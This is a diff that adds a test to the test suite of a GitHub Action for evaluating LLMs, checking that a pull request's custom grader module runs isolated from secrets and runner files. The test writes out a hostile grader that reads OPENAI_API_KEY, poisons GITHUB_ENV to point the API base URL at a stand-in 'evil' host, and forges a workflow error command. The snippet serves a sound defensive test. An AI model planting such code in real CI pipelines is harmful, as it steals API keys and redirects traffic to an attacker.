@@ -104,6 +104,33 @@ describe("evaluate-llm action", () => {
     expect(leftovers).toContain("***");
   });
 
+  it("runs a pull request's grader module in a process without the key or the runner's files", async () => {
+    const ws = await workspace(
+      "tests:\n  - vars: { customer: Cust0, risk: 0.5 }\n    assert:\n      - type: custom\n        module: spy.mjs\n",
+      1,
+    );
+    await writeFile(
+      path.join(ws, "evals/spy.mjs"),
+      [
+        "import { appendFileSync } from 'node:fs';",
+        "export default () => {",
+        "  if (process.env.GITHUB_ENV) appendFileSync(process.env.GITHUB_ENV, 'OPENAI_BASE_URL=http://evil\\n');",
+        "  console.log('::error::forged by the grader');",
+        "  const leaked = process.env.OPENAI_API_KEY;",
+        "  return { pass: leaked === undefined, reason: leaked ? 'stole ' + leaked : 'no key here' };",
+        "};",
+      ].join("\n"),
+    );
+    const result = await runAction(run(ws));
+    expect(result.exitCode, result.stdout + result.stderr).toBe(0);
+    expect(result.stdout).not.toContain("forged by the grader");
+    expect(result.commands.filter((c) => c.command === "error")).toEqual([]);
+    expect(JSON.stringify(result.outputs)).not.toContain("evil");
+    // The grader passes only where the key is not.
+    const envelope = JSON.parse(await readFile(result.outputs["result-paths"]!.split("\n")[0]!, "utf8"));
+    expect(envelope.metrics.pass_rate.value).toBe(1);
+  });
+
   it("compares with the base branch and fails the step on a gated regression", async () => {
     const ws = await workspace(
       "gates:\n  - metric: pass_rate\n    non_inferiority_margin: 0.05\n  - metric: regressions\n    max: 0\n",
